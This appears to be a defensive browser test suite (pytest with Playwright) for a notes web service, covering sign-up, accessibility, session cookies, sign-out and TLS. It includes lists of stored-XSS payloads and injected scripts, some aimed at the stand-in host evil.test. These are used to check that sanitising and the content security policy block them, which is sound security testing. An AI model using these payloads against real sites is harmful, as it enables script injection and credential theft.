@@ -1,0 +1,378 @@
+"""What people do with the service, in a real browser over TLS, and what is done to them."""
+
+from __future__ import annotations
+
+import itertools
+import re
+from collections.abc import Callable, Iterator
+from contextlib import suppress
+from pathlib import Path
+from typing import TYPE_CHECKING
+
+import pytest
+
+from tests.live.conftest import Service, running_chromium
+
+if TYPE_CHECKING:
+    from playwright.sync_api import Browser, Page, Playwright
+
+pytestmark = pytest.mark.browser
+
+FIRST, SECOND = "wool-lantern-orbit-7-thistle", "quartz-ferry-meadow-3-almanac"  # passwords
+WIDE, NARROW = {"width": 1280, "height": 800}, {"width": 360, "height": 740}
+numbers = itertools.count(1)
+
+
+class Person:
+    """Somebody with a browser of their own. Whatever goes wrong in it is in ``problems``."""
+
+    def __init__(self, browser: Browser, service: Service, axe: str) -> None:
+        self.origin = service.origin
+        self.axe = axe
+        self.email = f"person-{next(numbers)}@example.com"
+        self.problems: list[str] = []
+        self.context = browser.new_context(viewport=WIDE, base_url=self.origin)
+        self.context.set_default_timeout(10_000)  # milliseconds
+        self.context.add_init_script(
+            "addEventListener('securitypolicyviolation', (event) =>"
+            " console.error(`violation of ${event.violatedDirective}: ${event.blockedURI}`))"
+        )
+        self.context.on("console", lambda message: self.note(message.type, message.text))
+        self.context.on("weberror", lambda error: self.note("error", str(error.error)))
+        self.context.on("request", lambda request: self.note_request(request.url))
+        self.page = self.context.new_page()
+        self.page.on("dialog", lambda dialog: (self.note("error", "dialog"), dialog.dismiss()))
+
+    def note(self, kind: str, text: str) -> None:
+        if kind in ("error", "warning"):
+            self.problems.append(f"{self.page.url}: {text}")
+
+    def note_request(self, url: str) -> None:
+        if not url.startswith(f"{self.origin}/"):
+            self.note("error", f"third party: {url}")
+
+    def accept(self, pattern: str) -> None:
+        """Take back the problems that were to be expected; there must be some."""
+        expected = [problem for problem in self.problems if re.search(pattern, problem)]
+        assert expected, self.problems
+        self.problems = [problem for problem in self.problems if problem not in expected]
+
+    def look(self, path: str | None = None, status: int = 200) -> None:
+        """Read a page as it is, or go to it first; everybody must be able to use it."""
+        if path:
+            response = self.page.goto(path)
+            assert response
+            assert response.status == status
+        for size, scheme in ((WIDE, "light"), (NARROW, "dark")):
+            self.page.set_viewport_size(size)
+            self.page.emulate_media(color_scheme=scheme)
+            self.page.evaluate(self.axe)
+            found = self.page.evaluate("() => axe.run()")["violations"]
+            assert [(it["id"], it["nodes"][0]["html"]) for it in found] == [], self.page.url
+            width = self.page.evaluate("() => document.documentElement.scrollWidth")
+            assert width <= size["width"], f"{self.page.url} is {width} pixels wide"
+        self.page.set_viewport_size(WIDE)
+
+    def fill(self, button: str, **fields: str) -> None:
+        """Fill in fields by their names and press the button."""
+        for name, value in fields.items():
+            self.page.locator(f"main [name={name}]").fill(value)
+        self.page.get_by_role("button", name=button, exact=True).click()
+
+    def sign_up(self) -> None:
+        self.page.goto("/auth/register")
+        self.fill("Create the account", email=self.email, password=FIRST, confirm=FIRST)
+        self.page.wait_for_url("**/notes/")
+
+    def sign_in(self, password: str) -> None:
+        self.page.goto("/auth/login")
+        self.fill("Sign in", email=self.email, password=password)
+
+    def sign_out(self) -> None:
+        self.page.get_by_role("button", name="Sign out", exact=True).click()
+        self.page.wait_for_url(f"{self.origin}/")
+
+    def write(self, title: str, body: str) -> None:
+        self.page.goto("/notes/new")
+        self.fill("Save", title=title, body=body)
+        self.page.get_by_role("link", name="Edit").wait_for()
+
+
+@pytest.fixture
+def new_person(chromium: Browser, service: Service, node: Path) -> Iterator[Callable[[], Person]]:
+    """Make people; none of them may meet a problem that the test did not expect."""
+    axe = (node / "node_modules/axe-core/axe.min.js").read_text("utf-8")
+    people: list[Person] = []
+
+    def make() -> Person:
+        people.append(Person(chromium, service, axe))
+        return people[-1]
+
+    yield make
+    for person in people:
+        person.context.close()
+    assert [problem for person in people for problem in person.problems] == []
+
+
+@pytest.fixture
+def person(new_person: Callable[[], Person]) -> Person:
+    return new_person()
+
+
+def test_from_signing_up_to_signing_out(person: Person) -> None:
+    page = person.page
+    person.look("/")
+    person.look("/auth/register")
+    person.fill("Create the account", email=person.email, password=FIRST, confirm=SECOND)
+    page.locator("main .error").first.wait_for()
+    person.look()
+    person.fill("Create the account", password=FIRST, confirm=FIRST)
+    page.wait_for_url("**/notes/")
+    person.look()
+
+    person.look("/notes/new")
+    person.fill("Save", title="Shopping", body="<ul><li>milk</li></ul> and <strong>bread</strong>")
+    page.locator(".rich strong", has_text="bread").wait_for()
+    assert page.locator(".rich li").inner_text() == "milk"
+    person.look()
+    page.get_by_role("link", name="Edit").click()
+    person.look()
+    person.fill("Save", title=" ")
+    page.locator("main .error").first.wait_for()
+    person.look()
+    person.fill("Save", title="Groceries")
+    page.get_by_role("heading", name="Groceries").wait_for()
+    person.look("/notes/")
+    assert page.get_by_role("link", name="Groceries").is_visible()
+
+    person.look("/account/")
+    person.look("/account/password")
+    person.fill(
+        "Change the password",
+        current_password=FIRST,
+        new_password=SECOND,
+        confirm=SECOND,
+    )
+    page.wait_for_url("**/account/")
+    person.look()
+
+    person.sign_out()
+    person.look()
+    person.sign_in(FIRST)
+    page.get_by_role("alert").wait_for()
+    person.look()
+    person.accept("status of 4(01|22)")  # a form that was filled in wrongly, three times
+    person.sign_in(SECOND)
+    page.get_by_role("link", name="Groceries").click()
+    page.get_by_text("Delete this note").click()
+    person.look()
+    page.get_by_role("button", name="Delete it for good").click()
+    page.wait_for_url("**/notes/")
+    assert page.get_by_text("Groceries").count() == 0
+
+
+def test_nothing_personal_comes_back_from_history(person: Person) -> None:
+    person.sign_up()
+    person.write("A secret title", "a secret body")
+    person.page.goto("/account/")
+    person.sign_out()
+    for _ in range(3):
+        person.page.go_back()
+        shown = person.page.content()
+        assert "secret" not in shown
+        assert person.email not in shown
+    person.page.goto("/notes/")
+    assert "/auth/login?next=" in person.page.url
+
+
+def test_other_devices_are_signed_out(new_person: Callable[[], Person]) -> None:
+    """At once, and without a page that their history still has."""
+    here, there = new_person(), new_person()
+    here.sign_up()
+    here.write("A secret title", "a secret body")
+    there.email = here.email
+    there.sign_in(FIRST)
+    there.page.get_by_role("link", name="A secret title").click()
+    there.page.goto("/")
+    here.look("/account/")
+    here.page.get_by_role("button", name="Sign out everywhere else").click()
+    here.page.wait_for_url("**/account/")
+    here.look("/account/")
+    for _ in range(2):
+        there.page.go_back()
+        assert "/auth/login" in there.page.url
+        assert "secret" not in there.page.content()
+
+
+def test_the_cookie_is_out_of_reach(person: Person) -> None:
+    person.sign_up()
+    (cookie,) = person.context.cookies()
+    cookie.pop("value")
+    assert cookie == {
+        "name": "__Host-session",
+        "domain": person.origin.removeprefix("https://"),
+        "path": "/",
+        "expires": -1,
+        "httpOnly": True,
+        "secure": True,
+        "sameSite": "Lax",
+    }
+    assert person.page.evaluate("() => document.cookie") == ""
+
+
+ATTACKS = [
+    "<script>document.title = 'XSS'</script>",
+    "<img src=x onerror=\"document.title = 'XSS'\">",
+    "<svg><script>document.title = 'XSS'</script></svg>",
+    "<svg onload=\"document.title = 'XSS'\"><animate onbegin=\"document.title = 'XSS'\">",
+    "<a href=\"javascript:document.title = 'XSS'\">click</a>",
+    "<a href=\"java&#10;script:document.title = 'XSS'\">click</a>",
+    "<iframe srcdoc=\"<script>parent.document.title = 'XSS'</script>\"></iframe>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=\"document.title = 'XSS'\">",
+    "<form action=https://evil.test><input name=password><button>Sign in</button></form>",
+    "<style>@import 'https://evil.test/x.css';</style><img src=https://evil.test/pixel>",
+    "<base href=https://evil.test/><meta http-equiv=refresh content='0;url=https://evil.test'>",
+    "<details open ontoggle=\"document.title = 'XSS'\">",
+    "\"><script>document.title = 'XSS'</script><p title=\"",
+]
+
+
+def test_stored_script_never_runs(person: Person) -> None:
+    """Not in the list, the note or the form; and no request leaves for another host."""
+    page = person.page
+    person.sign_up()
+    for attack in ATTACKS:
+        person.write(attack[:120], f"A note. {attack}")
+        links = page.locator(".rich a")
+        for index in range(links.count()):
+            links.nth(index).click(no_wait_after=True)
+        assert page.title().startswith(attack[:120].rstrip()), "the title is shown as text"
+        page.get_by_role("link", name="Edit").click()
+        assert page.locator("[name=title]").input_value() == attack[:120]
+    person.look("/notes/")
+    assert page.title().startswith("Your notes")
+    assert page.locator("main script, main iframe, main form, main img").count() == 0
+
+
+INJECTIONS = {
+    "script": "document.createElement('script').text = 'document.title = 1'",
+    "markup": "document.body.innerHTML = '<b>injected</b>'",
+    "handler": "document.body.setAttribute('onclick', 'document.title = 1')",
+    "file": "document.body.append(Object.assign(document.createElement('script'), {src: '/x.js'}))",
+    "image": "document.body.append(Object.assign(new Image(), {src: 'https://evil.test/'}))",
+    "style": "document.body.setAttribute('style', 'color: red')",
+    "request": "fetch('https://evil.test/')",
+    "frame": "document.body.append(Object.assign(document.createElement('iframe'), {src: '/'}))",
+}
+
+
+@pytest.mark.parametrize("injection", INJECTIONS)
+def test_what_gets_past_the_cleaning_is_stopped_by_the_policy(
+    person: Person, injection: str
+) -> None:
+    """And the other tests would have noticed."""
+    person.page.goto("/")
+    with suppress(Exception):  # Trusted Types make it one
+        person.page.evaluate(f"() => {{ {INJECTIONS[injection]} }}")
+    person.page.wait_for_timeout(100)
+    person.accept("violation of ")
+    person.problems.clear()
+    assert person.page.title().startswith("Notes")
+
+
+@pytest.mark.parametrize(
+    ("path", "status"),
+    [
+        pytest.param("/nothing", 404, id="of the app"),
+        pytest.param("/.nginx/error.html", 404, id="of Nginx"),
+    ],
+)
+def test_error_pages(person: Person, path: str, status: int) -> None:
+    person.look(path, status)
+    person.accept(f"status of {status}")
+
+
+def tab_to(page: Page, name: str) -> None:
+    """Press Tab until the thing with that name has the focus, visibly."""
+    for _ in range(40):
+        page.keyboard.press("Tab")
+        focused = page.evaluate(
+            "() => { const element = document.activeElement;"
+            " const style = getComputedStyle(element);"
+            " return [(element.labels?.[0] ?? element).innerText.trim(),"
+            " style.outlineStyle !== 'none' && parseFloat(style.outlineWidth) >= 2] }"
+        )
+        if focused[0] == name:
+            assert focused[1], f"{name} has the focus, but nobody sees it"
+            return
+    pytest.fail(f"Tab does not reach {name} on {page.url}")
+
+
+def enter(page: Page) -> None:
+    """Follow the link, send the form."""
+    with page.expect_navigation():
+        page.keyboard.press("Enter")
+
+
+def test_the_keyboard_is_enough(person: Person) -> None:
+    page = person.page
+    page.goto("/")
+    tab_to(page, "Skip to the content")
+    page.keyboard.press("Enter")
+    tab_to(page, "Sign up")
+    enter(page)
+    for label, text in (("E-mail", person.email), ("Password", FIRST)):
+        tab_to(page, label)
+        page.keyboard.type(text)
+    page.keyboard.press("Tab")
+    page.keyboard.type(FIRST)
+    enter(page)
+    page.wait_for_url("**/notes/")
+    tab_to(page, "Write a note")
+    enter(page)
+    tab_to(page, "Title")
+    page.keyboard.type("By keyboard")
+    tab_to(page, "Note")
+    page.keyboard.type("no mouse")
+    tab_to(page, "Save")
+    enter(page)
+    page.get_by_role("heading", name="By keyboard").wait_for()
+    tab_to(page, "Delete this note")
+    page.keyboard.press("Enter")
+    tab_to(page, "Delete it for good")
+    enter(page)
+    page.wait_for_url("**/notes/")
+    tab_to(page, "Sign out")
+    enter(page)
+    page.wait_for_url(f"{person.origin}/")
+
+
+def test_everything_works_without_script(
+    chromium: Browser, service: Service, new_person: Callable[[], Person]
+) -> None:
+    person = new_person()
+    person.context = chromium.new_context(base_url=service.origin, java_script_enabled=False)
+    person.page = person.context.new_page()
+    person.sign_up()
+    person.write("Without script", "plain")
+    person.sign_out()
+    person.context.close()
+
+
+def test_plain_http_leads_to_https(person: Person) -> None:
+    person.problems.clear()
+    response = person.page.goto(person.origin.replace("https", "http") + "/auth/login")
+    assert response
+    assert response.url == f"{person.origin}/auth/login"
+    person.accept("third party: http://")
+
+
+def test_another_authority_is_not_believed(
+    playwright: Playwright, service: Service, tmp_path: Path
+) -> None:
+    """The browser above looks at the certificate: one that does not know our authority refuses."""
+    with (
+        running_chromium(playwright, service, tmp_path) as browser,
+        pytest.raises(Exception, match="ERR_CERT_AUTHORITY_INVALID"),
+    ):
+        browser.new_page().goto(service.origin)
